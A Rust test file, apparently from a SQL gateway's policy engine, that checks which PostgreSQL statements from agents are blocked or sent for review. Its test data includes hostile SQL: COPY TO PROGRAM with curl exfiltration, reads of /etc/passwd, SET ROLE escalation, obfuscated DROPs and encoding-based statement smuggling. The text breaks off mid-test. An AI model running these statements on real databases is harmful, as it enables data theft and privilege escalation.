//! Table-driven tests of `decide` with the shipped rules and with custom ones.

use std::collections::HashSet;

use hoop_policy::{
    classify, decide, decide_all, default_rules, Action, Decision, DefaultRules, Identity,
    PolicyContext, RuleConfig, RuleSet, DEFAULT_RULES_TOML, SYNTAX_ERROR_RULE,
};

fn agent() -> Identity {
    Identity {
        subject: "agent-7".to_owned(),
        groups: vec!["fraud-agents".to_owned()],
        ..Default::default()
    }
}

fn context() -> PolicyContext {
    PolicyContext {
        protected_tables: HashSet::from(["public.payments".to_owned()]),
    }
}

/// "allow", "block:<rule>" or "review:<rule>".
fn outcome(sql: &str, identity: &Identity, rules: &RuleSet) -> String {
    match decide_all(&classify(sql), identity, &context(), rules) {
        Decision::Allow => "allow".to_owned(),
        Decision::Block { rule, message, .. } => {
            // A syntax error carries the server's own message.
            assert!(
                message.contains(&rule) || rule == SYNTAX_ERROR_RULE,
                "{message:?} names {rule}"
            );
            format!("block:{rule}")
        }
        Decision::Review { rule, message } => {
            assert!(message.contains(&rule), "{message:?} names {rule}");
            format!("review:{rule}")
        }
    }
}

/// The predicate rule the demo's configuration adds (it is about the demo's
/// own table, so it is not shipped in the binary).
fn demo_rule() -> RuleConfig {
    RuleConfig {
        kinds: vec!["select".to_owned(), "copy_to".to_owned()],
        tables: vec!["public.payments".to_owned()],
        predicate: Some("amount > 10000".to_owned()),
        ..rule("review-large-payment-reads", Action::Review)
    }
}

/// The shipped rules and the demo's rule, as the demo runs.
fn defaults() -> RuleSet {
    RuleSet::with_defaults(vec![demo_rule()]).expect("the shipped rules are valid")
}

#[test]
fn shipped_rules_refuse_prohibited_and_obfuscated_statements() {
    let rules = defaults();
    let cases: &[(&str, &str)] = &[
        ("DROP DATABASE payments", "block:block-drop-database"),
        (
            "ALTER SYSTEM SET work_mem = '1GB'",
            "block:block-alter-system",
        ),
        ("CREATE ROLE x SUPERUSER", "block:block-role-commands"),
        (
            "ALTER ROLE fraud_agent SUPERUSER",
            "block:block-role-commands",
        ),
        ("DROP ROLE x", "block:block-role-commands"),
        (
            "GRANT payments_admin TO fraud_agent",
            "block:block-role-commands",
        ),
        (
            "GRANT SELECT ON payments TO public",
            "block:block-role-commands",
        ),
        ("REVOKE ALL ON payments FROM x", "block:block-role-commands"),
        ("CREATE EXTENSION dblink", "block:block-create-extension"),
        (
            "COPY payments TO PROGRAM 'curl -d @- https://x'",
            "block:block-server-side-copy",
        ),
        (
            "copy (select 1) to '/tmp/x'",
            "block:block-server-side-copy",
        ),
        (
            "COPY payments FROM PROGRAM 'cat /etc/passwd'",
            "block:block-server-side-copy",
        ),
        ("SET ROLE postgres", "block:block-identity-change"),
        ("SET \"role\" = postgres", "block:block-identity-change"),
        ("RESET ROLE", "block:block-identity-change"),
        (
            "set session authorization postgres",
            "block:block-identity-change",
        ),
        (
            "SET hoop.session = 'forged'",
            "block:block-protected-parameters",
        ),
        ("RESET hoop.session", "block:block-protected-parameters"),
        (
            "SELECT set_config('role','postgres',false)",
            "block:block-protected-parameters",
        ),
        (
            "SELECT set_config(E'r\\x6fle', 'postgres', false)",
            "block:block-protected-parameters",
        ),
        (
            "SELECT set_config(U&'r\\006fle', 'postgres', false)",
            "block:block-protected-parameters",
        ),
        (
            "SELECT set_config('hoop.session', 'x', false)",
            "block:block-protected-parameters",
        ),
        (
            "SELECT set_config('ro' || 'le', 'x', false)",
            "block:block-protected-parameters",
        ),
        (
            "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'",
            "block:block-protected-parameters",
        ),
        ("DISCARD ALL", "block:block-protected-parameters"),
        ("LOAD 'auto_explain'", "block:block-load"),
        (
            "select pg_read_file('/etc/passwd')",
            "block:block-file-access-functions",
        ),
        (
            "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')",
            "block:block-file-access-functions",
        ),
        (
            "SELECT \"pg_ls_dir\"('.')",
            "block:block-file-access-functions",
        ),
        (
            "SELECT * FROM pg_ls_waldir()",
            "block:block-file-access-functions",
        ),
        (
            "SELECT lo_export(1, '/tmp/x')",
            "block:block-file-access-functions",
        ),
        (
            "SELECT lo_import('/etc/passwd')",
            "block:block-file-access-functions",
        ),
        (
            "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
            "block:block-file-access-functions",
        ),
        (
            "SELECT dblink_connect('host=evil')",
            "block:block-file-access-functions",
        ),
        (
            "SELECT length(upper(pg_read_file('/etc/passwd')))",
            "block:block-file-access-functions",
        ),
        // Obfuscation.
        (
            "DR/**/OP TABLE payments",
            &format!("block:{SYNTAX_ERROR_RULE}"),
        ),
        (
            "/* /* nested */ */ drop table payments",
            "review:review-ddl-on-protected-tables",
        ),
        (
            "dRoP TaBlE \"payments\"",
            "review:review-ddl-on-protected-tables",
        ),
        (
            "DO $$ BEGIN EXECUTE 'DROP TABLE payments'; END $$",
            "review:review-dynamic-sql",
        ),
        (
            "DO $x$ BEGIN EXECUTE 'DROP TABLE payments'; END $x$",
            "review:review-dynamic-sql",
        ),
        ("CALL cleanup()", "review:review-dynamic-sql"),
        (
            "SELECT query_to_xml('select * from payments', true, false, '')",
            "review:review-dynamic-sql-functions",
        ),
        // The second (or a later) statement decides for the whole string.
        (
            "SELECT 1; DROP DATABASE payments",
            "block:block-drop-database",
        ),
        (
            "SELECT 1; SELECT 2; SET ROLE postgres",
            "block:block-identity-change",
        ),
        (
            "select 'a;b'; ALTER SYSTEM SET x = 1",
            "block:block-alter-system",
        ),
        (
            "SELECT 1; DR/**/OP TABLE payments",
            &format!("block:{SYNTAX_ERROR_RULE}"),
        ),
        // Wrappers are judged by what they wrap.
        (
            "PREPARE p AS DELETE FROM payments",
            "review:review-dml-on-protected-tables",
        ),
        (
            "PREPARE p AS SELECT pg_read_file('x')",
            "block:block-file-access-functions",
        ),
        (
            "EXPLAIN ANALYZE DELETE FROM payments",
            "review:review-dml-on-protected-tables",
        ),
        (
            "EXPLAIN (ANALYZE) UPDATE payments SET note = ''",
            "review:review-dml-on-protected-tables",
        ),
        (
            "DECLARE c CURSOR FOR SELECT * FROM payments",
            "review:review-large-payment-reads",
        ),
        // Writes to protected tables.
        (
            "UPDATE payments SET note = 'x' WHERE id = 1",
            "review:review-dml-on-protected-tables",
        ),
        (
            "INSERT INTO payments (id) VALUES (1)",
            "review:review-dml-on-protected-tables",
        ),
        (
            "DELETE FROM public.payments",
            "review:review-dml-on-protected-tables",
        ),
        ("TRUNCATE payments", "review:review-dml-on-protected-tables"),
        (
            "COPY payments FROM STDIN",
            "review:review-dml-on-protected-tables",
        ),
        (
            "WITH d AS (DELETE FROM payments RETURNING *) SELECT * FROM d",
            "review:review-dml-on-protected-tables",
        ),
        (
            "ALTER TABLE payments DROP COLUMN note",
            "review:review-ddl-on-protected-tables",
        ),
        // Large reads.
        (
            "SELECT * FROM payments",
            "review:review-large-payment-reads",
        ),
        (
            "COPY payments TO STDOUT",
            "review:review-large-payment-reads",
        ),
        // Everyday statements.
        (
            "SELECT id, card_number FROM payments WHERE amount < 500",
            "allow",
        ),
        ("SELECT 1", "allow"),
        ("BEGIN; SELECT 1; COMMIT", "allow"),
        ("SHOW work_mem", "allow"),
        ("SET search_path = public", "allow"),
        ("SET statement_timeout = '5s'", "allow"),
        ("RESET ALL", "allow"),
        ("DELETE FROM scratch WHERE id = 1", "allow"),
        ("CREATE TEMP TABLE scratch (id int)", "allow"),
        ("EXECUTE p(1)", "allow"),
        ("", "allow"),
    ];
    for (sql, expected) in cases {
        assert_eq!(outcome(sql, &agent(), &rules), *expected, "{sql}");
    }
}

#[test]
fn threshold_predicate_semantics() {
    let rules = defaults();
    let review = "review:review-large-payment-reads";
    let cases: &[(&str, &str)] = &[
        ("SELECT * FROM payments WHERE amount > 20000", review),
        ("SELECT * FROM payments WHERE amount >= 10001", review),
        (
            "SELECT * FROM payments WHERE amount BETWEEN 15000 AND 30000",
            review,
        ),
        ("SELECT * FROM payments WHERE amount > 10000", review),
        ("SELECT * FROM payments WHERE amount = 10000.5", review),
        ("SELECT * FROM payments WHERE id = 5", review),
        (
            "SELECT * FROM payments WHERE amount < 500 OR id = 5",
            review,
        ),
        ("SELECT * FROM payments WHERE NOT (amount < 500)", review),
        ("SELECT * FROM payments WHERE amount < $1", review),
        (
            "SELECT * FROM payments p WHERE amount < 500 AND p.id IN (SELECT id FROM payments)",
            review,
        ),
        (
            "SELECT * FROM payments WHERE amount < 20000 AND amount > 15000",
            review,
        ),
        ("SELECT * FROM payments WHERE amount < 500", "allow"),
        ("SELECT * FROM payments WHERE amount <= 10000", "allow"),
        ("SELECT * FROM payments WHERE amount = 10000", "allow"),
        ("SELECT * FROM payments WHERE 10000 >= amount", "allow"),
        (
            "SELECT * FROM payments WHERE amount BETWEEN 1 AND 9999",
            "allow",
        ),
        (
            "SELECT * FROM payments WHERE amount IN (5, 10, 15)",
            "allow",
        ),
        (
            "SELECT * FROM payments WHERE amount > 20000 AND amount < 5",
            "allow",
        ),
        (
            "SELECT * FROM payments WHERE amount < 500 AND note = 'x'",
            "allow",
        ),
        ("SELECT * FROM payments AS p WHERE p.amount < 500", "allow"),
        // Other tables are not what the rule is about.
        ("SELECT * FROM refunds WHERE amount > 20000", "allow"),
        (
            "SELECT * FROM archive.payments WHERE amount > 20000",
            "allow",
        ),
    ];
    for (sql, expected) in cases {
        assert_eq!(outcome(sql, &agent(), &rules), *expected, "{sql}");
    }
}

fn rule(name: &str, action: Action) -> RuleConfig {
    RuleConfig {
        name: name.to_owned(),
        action,
        message: None,
        kinds: vec![],
        tables: vec![],
        columns: vec![],
        functions: vec![],
        missing_where: None,
        predicate: None,
        set_parameters: vec![],
        protected_tables_only: false,
        groups: vec![],
        except_groups: vec![],
    }
}

/// `set_config($1, $2, …)` (psycopg's tests, drivers that set settings by
/// name) is judged when a portal of it runs, on the names and values bound:
/// a Parse leaves the setting out, a portal names it.
#[test]
fn a_setting_named_by_a_bind_parameter_is_judged_on_what_is_bound() {
    let mut block_role = rule("no-role", Action::Block);
    block_role.set_parameters = vec!["role".to_owned()];
    let rules = RuleSet::new(vec![block_role]).expect("valid");
    let judged = |sql: &str, binds: &[Option<&str>]| {
        let facts = classify(sql).statements[0].with_binds(|n| {
            binds
                .get(usize::from(n) - 1)
                .copied()
                .flatten()
                .map(str::to_owned)
        });
        match decide(&facts, &agent(), &context(), &rules) {
            Decision::Allow => "allow".to_owned(),
            Decision::Block { rule, .. } => format!("block:{rule}"),
            Decision::Review { rule, .. } => format!("review:{rule}"),
        }
    };
    let sql = "SELECT set_config($1, $2, false)";
    let cases: [(&[Option<&str>], &str); 10] = [
        (
            &[Some("default_transaction_isolation"), Some("serializable")],
            "allow",
        ),
        (&[Some("Standard_Conforming_Strings "), Some("on")], "allow"),
        (&[Some("standard_conforming_strings"), Some("off")], "allow"),
        (&[Some("Client_Encoding"), Some("latin1")], "allow"),
        (
            &[Some("client_encoding"), Some("sjis")],
            "block:readable-client-encoding",
        ),
        (
            &[Some("client_encoding"), None],
            "block:readable-client-encoding",
        ),
        // NULL, binary or missing: could be any setting.
        (&[None, Some("on")], "block:no-role"),
        (&[], "block:no-role"),
        (&[Some("ROLE"), Some("postgres")], "block:no-role"),
        (&[Some("work_mem"), Some("64MB")], "allow"),
    ];
    for (binds, expected) in cases {
        assert_eq!(judged(sql, binds), expected, "{binds:?}");
    }
    // A value of its own: only the name is bound.
    assert_eq!(
        judged(
            "SELECT set_config($1::text, 'big5', false)",
            &[Some("client_encoding")]
        ),
        "block:readable-client-encoding"
    );
    // A client encoding bound (psycopg sets it so): judged on the value.
    let encoding = "SELECT set_config('Client_Encoding', $1::text, false)";
    assert_eq!(judged(encoding, &[Some("LATIN1")]), "allow");
    assert_eq!(judged(encoding, &[Some("utf8")]), "allow");
    assert_eq!(
        judged(encoding, &[Some("sjis")]),
        "block:readable-client-encoding"
    );
    assert_eq!(judged(encoding, &[None]), "block:readable-client-encoding");
    let unbound = decide_all(&classify(encoding), &agent(), &context(), &rules);
    assert!(matches!(unbound, Decision::Block { .. }), "{unbound:?}");
    let deferred = classify(encoding).statements[0].deferring_binds();
    assert_eq!(
        decide(&deferred, &agent(), &context(), &rules),
        Decision::Allow
    );
    // A wrapped statement's parameters are not the portal's.
    assert_eq!(
        judged(
            "EXPLAIN ANALYZE SELECT set_config($1, 'x', false)",
            &[Some("work_mem")]
        ),
        "block:no-role"
    );
    // Unbound (a simple Query, where the server knows no $1): as any setting.
    let unbound = decide_all(&classify(sql), &agent(), &context(), &rules);
    assert!(matches!(unbound, Decision::Block { .. }), "{unbound:?}");
    // A Parse leaves it to the portal.
    let deferred = classify(sql).statements[0].deferring_binds();
    assert_eq!(
        decide(&deferred, &agent(), &context(), &rules),
        Decision::Allow
    );
}

#[test]
fn the_most_restrictive_matching_rule_wins() {
    let allow_all = rule("allow-everything", Action::Allow);
    let review_dml = RuleConfig {
        kinds: vec!["dml".to_owned()],
        ..rule("review-dml", Action::Review)
    };
    let block_delete = RuleConfig {
        kinds: vec!["delete".to_owned()],
        missing_where: Some(true),
        ..rule("block-unfiltered-delete", Action::Block)
    };
    let rules = RuleSet::new(vec![allow_all, review_dml, block_delete]).expect("valid");
    assert_eq!(
        outcome("DELETE FROM t", &agent(), &rules),
        "block:block-unfiltered-delete"
    );
    assert_eq!(
        outcome("DELETE FROM t WHERE id = 1", &agent(), &rules),
        "review:review-dml"
    );
    assert_eq!(outcome("SELECT 1", &agent(), &rules), "allow");
    // An allow rule never lets a syntax error through.
    assert_eq!(
        outcome("FROBNICATE", &agent(), &rules),
        format!("block:{SYNTAX_ERROR_RULE}")
    );
}

#[test]
fn groups_scope_rules() {
    let admins = Identity {
        subject: "ci".to_owned(),
        groups: vec!["payments-admins".to_owned()],
        ..Default::default()
    };
    let rules = RuleSet::new(vec![
        RuleConfig {
            kinds: vec!["ddl".to_owned()],
            except_groups: vec!["migrations".to_owned()],
            ..rule("block-ddl", Action::Block)
        },
        RuleConfig {
            kinds: vec!["dml".to_owned()],
            groups: vec!["payments-admins".to_owned()],
            ..rule("review-admin-dml", Action::Review)
        },
        RuleConfig {
            kinds: vec!["unparsed".to_owned()],
            groups: vec!["payments-admins".to_owned()],
            ..rule("review-unparsed", Action::Review)
        },
    ])
    .expect("valid");
    let migrations = Identity {
        subject: "migrate".to_owned(),
        groups: vec!["migrations".to_owned()],
        ..Default::default()
    };
    assert_eq!(
        outcome("CREATE TABLE t (id int)", &agent(), &rules),
        "block:block-ddl"
    );
    assert_eq!(
        outcome("CREATE TABLE t (id int)", &migrations, &rules),
        "allow"
    );
    assert_eq!(
        outcome("DELETE FROM t", &admins, &rules),
        "review:review-admin-dml"
    );
    assert_eq!(outcome("DELETE FROM t", &agent(), &rules), "allow");
    // CHECKPOINT is PostgreSQL grammar: no rule matches it.
    assert_eq!(outcome("CHECKPOINT", &admins, &rules), "allow");
    // A syntax error is answered as the server would, whatever the rules.
    for identity in [&admins, &agent()] {
        assert_eq!(
            outcome("FROBNICATE", identity, &rules),
            format!("block:{SYNTAX_ERROR_RULE}")
        );
    }
}

#[test]
fn matchers_combine_with_and() {
    let rules = RuleSet::new(vec![
        RuleConfig {
            tables: vec!["public.pay*".to_owned()],
            columns: vec!["card_*".to_owned()],
            kinds: vec!["select".to_owned()],
            ..rule("review-card-reads", Action::Review)
        },
        RuleConfig {
            tables: vec!["audit_log".to_owned()],
            ..rule("block-audit-log", Action::Block)
        },
    ])
    .expect("valid");
    let agent = agent();
    assert_eq!(
        outcome("SELECT card_number FROM payments", &agent, &rules),
        "review:review-card-reads"
    );
    assert_eq!(
        outcome("SELECT * FROM payouts", &agent, &rules),
        "review:review-card-reads"
    );
    assert_eq!(outcome("SELECT id FROM payments", &agent, &rules), "allow");
    assert_eq!(
        outcome("SELECT card_number FROM other", &agent, &rules),
        "allow"
    );
    assert_eq!(
        outcome("SELECT 1 FROM ops.audit_log", &agent, &rules),
        "block:block-audit-log"
    );
}

#[test]
fn allow_list_mode() {
    let rules = RuleSet::new(vec![RuleConfig {
        kinds: vec!["select".to_owned(), "transaction".to_owned()],
        ..rule("allow-reads", Action::Allow)
    }])
    .expect("valid")
    .with_default_action(Action::Block);
    assert_eq!(outcome("SELECT 1", &agent(), &rules), "allow");
    assert_eq!(outcome("DELETE FROM t", &agent(), &rules), "block:default");
}

#[test]
fn review_is_refused_until_approvals_exist() {
    let decision = decide_all(
        &classify("DELETE FROM payments"),
        &agent(),
        &context(),
        &defaults(),
    );
    let (sqlstate, message) = decision.client_error().expect("refused");
    assert_eq!(sqlstate, "42501");
    assert!(
        message.contains("review-dml-on-protected-tables"),
        "{message}"
    );
    assert!(message.contains("review"), "{message}");
    assert_eq!(Decision::Allow.client_error(), None);

    let unparsed = decide_all(
        &classify("DR/**/OP TABLE payments"),
        &agent(),
        &context(),
        &defaults(),
    );
    let (sqlstate, message) = unparsed.client_error().expect("refused");
    assert_eq!(sqlstate, "42601");
    assert_eq!(message, "syntax error at or near \"DR\"");
    assert_eq!(unparsed.position(), Some(1));
}

#[test]
fn validation_names_the_rule_and_field() {
    let cases: Vec<(RuleConfig, &str, &str)> = vec![
        (rule("", Action::Block), "rule #1", "name"),
        (
            RuleConfig {
                kinds: vec!["drop_everything".to_owned()],
                ..rule("r", Action::Block)
            },
            "r",
            "kinds",
        ),
        (
            RuleConfig {
                predicate: Some("amount >> 5".to_owned()),
                ..rule("p", Action::Review)
            },
            "p",
            "predicate",
        ),
        (
            RuleConfig {
                predicate: Some("amount > lots".to_owned()),
                ..rule("p", Action::Review)
            },
            "p",
            "predicate",
        ),
        (
            RuleConfig {
                tables: vec!["db.s.t".to_owned()],
                ..rule("t", Action::Block)
            },
            "t",
            "tables",
        ),
        (
            RuleConfig {
                functions: vec![" ".to_owned()],
                ..rule("f", Action::Block)
            },
            "f",
            "functions",
        ),
    ];
    for (config, rule_name, field) in cases {
        let error = RuleSet::new(vec![config]).expect_err("invalid");
        assert_eq!(
            (error.rule.as_str(), error.field),
            (rule_name, field),
            "{error}"
        );
        assert!(error.to_string().contains(field));
    }
    let duplicate = RuleSet::new(vec![rule("a", Action::Allow), rule("a", Action::Block)])
        .expect_err("duplicate");
    assert_eq!((duplicate.rule.as_str(), duplicate.field), ("a", "name"));
}

#[test]
fn rules_read_from_toml() {
    #[derive(serde::Deserialize)]
    struct Config {
        rules: Vec<RuleConfig>,
    }
    let text = r#"
        [[rules]]
        name = "review-big-refunds"
        action = "review"
        kinds = ["select"]
        tables = ["public.refunds"]
        predicate = "amount >= 5000"
        groups = ["fraud-agents"]
        message = "large refunds need a second pair of eyes"
    "#;
    let config: Config = toml::from_str(text).expect("parses");
    let rules = RuleSet::with_defaults(config.rules).expect("valid");
    let decision = decide_all(
        &classify("SELECT * FROM refunds WHERE amount > 6000"),
        &agent(),
        &context(),
        &rules,
    );
    match decision {
        Decision::Review { rule, message } => {
            assert_eq!(rule, "review-big-refunds");
            assert!(message.starts_with("large refunds need a second pair of eyes"));
        }
        other => panic!("{other:?}"),
    }
    // A misspelt matcher is an error, not a rule that matches everything.
    let typo = "[[rules]]\nname = \"x\"\naction = \"block\"\ntable = [\"payments\"]\n";
    assert!(toml::from_str::<Config>(typo).is_err());
    // The shipped text is what default_rules() returns.
    let shipped: Config = toml::from_str(DEFAULT_RULES_TOML).expect("parses");
    assert_eq!(shipped.rules, default_rules());
    // The demo's table is not the business of the shipped rules.
    assert!(shipped
        .rules
        .iter()
        .all(|r| r.tables.is_empty() && r.predicate.is_none()));
}

#[test]
fn predicate_rules_are_bound_to_the_relation_they_name() {
    let rules = defaults();
    let review = "review:review-large-payment-reads";
    let cases: &[(&str, &str)] = &[
        (
            "SELECT max(p.amount) FROM payments p, (VALUES (1)) x(amount) WHERE x.amount < 5",
            review,
        ),
        (
            "SELECT max(p.amount) FROM payments p, (VALUES (1)) x(amount) WHERE p.amount < 5",
            "allow",
        ),
        (
            "SELECT * FROM payments p JOIN refunds r ON r.id = p.id WHERE r.amount < 5",
            review,
        ),
        (
            "SELECT * FROM payments p JOIN refunds r ON r.id = p.id WHERE p.amount < 5 AND r.amount < 5",
            "allow",
        ),
        (
            "WITH payments AS (SELECT * FROM payments) SELECT * FROM payments WHERE amount < 5",
            review,
        ),
        (
            "WITH small AS (SELECT * FROM payments WHERE amount < 5) SELECT * FROM small",
            "allow",
        ),
        (
            "SELECT * FROM payments WHERE amount < 500 AND id IN (SELECT id FROM refunds)",
            "allow",
        ),
        (
            "SELECT * FROM refunds WHERE id IN (SELECT id FROM payments)",
            review,
        ),
        // Whole tables as XML: reviewed by the shipped rule, and by the
        // demo's rule when the shipped ones are off.
        (
            "SELECT table_to_xml('payments', true, false, '')",
            "review:review-whole-table-xml",
        ),
        (
            "SELECT schema_to_xml('public', true, false, '')",
            "review:review-whole-table-xml",
        ),
        (
            "SELECT database_to_xml(true, false, '')",
            "review:review-whole-table-xml",
        ),
    ];
    for (sql, expected) in cases {
        assert_eq!(outcome(sql, &agent(), &rules), *expected, "{sql}");
    }
    let only_demo = RuleSet::configured(
        &DefaultRules {
            enabled: false,
            ..DefaultRules::default()
        },
        vec![demo_rule()],
    )
    .expect("valid");
    assert_eq!(
        outcome(
            "SELECT table_to_xml('public.payments', true, false, '')",
            &agent(),
            &only_demo
        ),
        review
    );
}

#[test]
fn the_shipped_rules_are_the_operators_to_switch_off() {
    let migrations = Identity {
        subject: "migrate".to_owned(),
        groups: vec!["migrations".to_owned()],
        ..Default::default()
    };
    // Off as a whole.
    let none = RuleSet::configured(
        &DefaultRules {
            enabled: false,
            ..DefaultRules::default()
        },
        vec![],
    )
    .expect("valid");
    assert_eq!(none.names().count(), 0);
    assert_eq!(outcome("GRANT SELECT ON t TO x", &agent(), &none), "allow");
    // Rule by rule.
    let some = RuleSet::configured(
        &DefaultRules {
            disable: vec!["block-role-commands".to_owned()],
            ..DefaultRules::default()
        },
        vec![],
    )
    .expect("valid");
    assert_eq!(outcome("GRANT SELECT ON t TO x", &agent(), &some), "allow");
    assert_eq!(
        outcome("DROP DATABASE payments", &agent(), &some),
        "block:block-drop-database"
    );
    // Scoped by group: migrations run DDL, CREATE FUNCTION and DO without
    // review; agents still cannot.
    let scoped = RuleSet::configured(
        &DefaultRules {
            exempt: [
                ("review-dynamic-sql", vec!["migrations"]),
                ("review-ddl-on-protected-tables", vec!["migrations"]),
            ]
            .into_iter()
            .map(|(rule, groups)| {
                (
                    rule.to_owned(),
                    groups.into_iter().map(String::from).collect(),
                )
            })
            .collect(),
            ..DefaultRules::default()
        },
        vec![],
    )
    .expect("valid");
    for sql in [
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
        "DO $$ BEGIN PERFORM 1; END $$",
        "ALTER TABLE payments ADD COLUMN x int",
    ] {
        assert_eq!(outcome(sql, &migrations, &scoped), "allow", "{sql}");
        assert!(
            outcome(sql, &agent(), &scoped).starts_with("review:"),
            "{sql}"
        );
    }
    assert_eq!(
        outcome("SET ROLE postgres", &migrations, &scoped),
        "block:block-identity-change"
    );
    // Every shipped rule skips groups exempt from the whole set.
    let break_glass = RuleSet::configured(
        &DefaultRules {
            exempt_groups: vec!["migrations".to_owned()],
            ..DefaultRules::default()
        },
        vec![],
    )
    .expect("valid");
    assert_eq!(
        outcome("SET ROLE postgres", &migrations, &break_glass),
        "allow"
    );
    assert_eq!(
        outcome("SET ROLE postgres", &agent(), &break_glass),
        "block:block-identity-change"
    );
    // A misspelt name is an error naming it.
    for defaults in [
        DefaultRules {
            disable: vec!["block-role-comands".to_owned()],
            ..DefaultRules::default()
        },
        DefaultRules {
            exempt: [("review-dynamic-sqll".to_owned(), vec!["m".to_owned()])]
                .into_iter()
                .collect(),
            ..DefaultRules::default()
        },
    ] {
        let error = RuleSet::configured(&defaults, vec![]).expect_err("misspelt");
        assert!(
            error.rule.starts_with("block-role-comands") || error.rule == "review-dynamic-sqll"
        );
        assert!(
            error.to_string().contains("hoop-defaults has no rule"),
            "{error}"
        );
    }
    // The operator may replace a shipped rule they switched off.
    let replaced = RuleSet::configured(
        &DefaultRules {
            disable: vec!["review-dynamic-sql".to_owned()],
            ..DefaultRules::default()
        },
        vec![RuleConfig {
            kinds: vec!["do".to_owned()],
            ..rule("review-dynamic-sql", Action::Block)
        }],
    )
    .expect("valid");
    assert_eq!(
        outcome("DO $$ BEGIN END $$", &agent(), &replaced),
        "block:review-dynamic-sql"
    );
}

#[test]
fn a_cte_of_the_same_name_does_not_hide_a_protected_write() {
    assert_eq!(
        outcome(
            "WITH payments AS (SELECT 1) DELETE FROM payments",
            &agent(),
            &defaults()
        ),
        "review:review-dml-on-protected-tables"
    );
}

#[test]
fn views_over_pg_settings_are_settings_changes() {
    for sql in [
        "CREATE TEMP VIEW v AS SELECT * FROM pg_settings",
        "CREATE VIEW v AS SELECT name, setting FROM pg_catalog.pg_settings WHERE name = 'role'",
        "CREATE RULE r AS ON UPDATE TO t DO INSTEAD UPDATE pg_settings SET setting = 'x'",
    ] {
        assert_eq!(
            outcome(sql, &agent(), &defaults()),
            "block:block-protected-parameters",
            "{sql}"
        );
    }
    assert_eq!(
        outcome(
            "SELECT name, setting FROM pg_settings",
            &agent(),
            &defaults()
        ),
        "allow"
    );
}

/// A session that turns standard_conforming_strings off makes the server
/// read `'a\' , ' ; DROP TABLE payments; -- '` as a DROP where standard
/// strings make two literals. The gateway reads a session's text as the
/// server reports it reads it, so turning them off is ordinary SQL; only a
/// statement that could set parameters it cannot name is refused (it could
/// set client_encoding).
#[test]
fn standard_conforming_strings_off_is_read_as_the_server_reads_it() {
    use hoop_policy::{classify_in, reads_alike_in_both, StringLiterals};
    let none = RuleSet::new(vec![]).expect("an empty rule set is valid");
    for sql in [
        "SET standard_conforming_strings = off",
        "SET LOCAL \"standard_conforming_strings\" = 'no'",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "ALTER ROLE agent SET standard_conforming_strings = off",
        "SET standard_conforming_strings = on",
        "RESET standard_conforming_strings",
        "SET escape_string_warning = off",
        "SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'work_mem'",
        // pg_dump, at every connection of versions since August 2024.
        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings \
         WHERE name = 'restrict_nonsystem_relation_kind'",
    ] {
        assert_eq!(outcome(sql, &agent(), &none), "allow", "{sql}");
    }
    // pg_dump's runs under the shipped rules too (it names no protected
    // parameter).
    assert_eq!(
        outcome(
            "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings \
             WHERE name = 'restrict_nonsystem_relation_kind'",
            &agent(),
            &defaults()
        ),
        "allow"
    );
    for sql in [
        "SELECT set_config(current_setting('my.name'), 'off', false)",
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
        "SELECT set_config($1, 'off', false)",
        "SELECT set_config(name, NULL, false) FROM pg_settings WHERE name = 'work_mem'",
        "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'a' OR true",
    ] {
        assert_eq!(
            outcome(sql, &agent(), &none),
            "block:readable-client-encoding",
            "{sql}"
        );
    }
    // The two readings of one text.
    let smuggled = "SELECT 'a\\' , ' ; DROP TABLE payments; -- '";
    let standard = classify_in(smuggled, StringLiterals::Standard);
    assert_eq!(standard.statements.len(), 1);
    assert_eq!(standard.statements[0].kind, hoop_policy::Kind::Select);
    let escaped = classify_in(smuggled, StringLiterals::Escaped);
    assert_eq!(escaped.statements.len(), 2);
    assert_eq!(escaped.statements[1].tables[0].name, "payments");
    assert_ne!(escaped.statements[1].kind, hoop_policy::Kind::Select);
    assert!(!reads_alike_in_both(smuggled));
    assert!(reads_alike_in_both("SELECT 'no backslash'"));
    assert!(reads_alike_in_both("SELECT E'a\\'', $$b\\$$"));
    // SQL text a function parses when it runs is read both ways.
    let dynamic = "SELECT query_to_xml('select ''a\\'' , '' ; select * from payments; -- ''', \
                   true, false, '')";
    let facts = &classify_in(dynamic, StringLiterals::Standard).statements[0];
    assert!(
        facts.tables.iter().any(|t| t.name == "payments"),
        "{:?}",
        facts.tables
    );
}

/// A client encoding whose multibyte characters can contain ASCII bytes
/// lets one text read differently: as UTF-8 the gateway reads
/// `E'<e3 81 81>\' ; RESET ROLE; SELECT '…'` as one literal, while the
/// server, converting from SJIS, reads `<e3 81>` and `<81 5c>` as two
/// characters, so the literal ends at the quote and `RESET ROLE` runs.
/// Refused whatever the rules; every other encoding is the server's own
/// business.
#[test]
fn client_encoding_cannot_become_one_the_gateway_cannot_read() {
    let none = RuleSet::new(vec![]).expect("an empty rule set is valid");
    let refused = [
        "SET client_encoding = 'SJIS'",
        "SET client_encoding TO sjis",
        "SET NAMES 'Shift_JIS'",
        "SET SESSION client_encoding = 'win-932'",
        "SET LOCAL \"client_encoding\" = 'MsKanji'",
        "SET client_encoding = 'BIG5'",
        "SET client_encoding = 'windows950'",
        "SET client_encoding = 'gbk'",
        "SET client_encoding = 'UHC'",
        "SET client_encoding = 'win949'",
        "SET client_encoding = 'GB18030'",
        "SET client_encoding = 'johab'",
        "SET client_encoding = 'SHIFT_JIS_2004'",
        "SET client_encoding FROM CURRENT",
        "SELECT set_config('client_encoding', 'sjis', false)",
        "SELECT set_config('Client_Encoding', current_setting('x'), false)",
        "SELECT set_config('client_encoding', $1, false)",
        "UPDATE pg_settings SET setting = 'big5' WHERE name = 'client_encoding'",
        "ALTER ROLE agent SET client_encoding = 'SJIS'",
        "ALTER DATABASE payments RESET client_encoding",
        "SELECT 1; SET client_encoding = 'GBK'",
        "PREPARE p AS SELECT set_config('client_encoding', 'uhc', false)",
        // Named by the row a WHERE keeps (the `=` could be someone's own).
        "SELECT set_config(name, 'SJIS', false) FROM pg_settings WHERE name = 'work_mem'",
    ];
    for sql in refused {
        assert_eq!(
            outcome(sql, &agent(), &none),
            "block:readable-client-encoding",
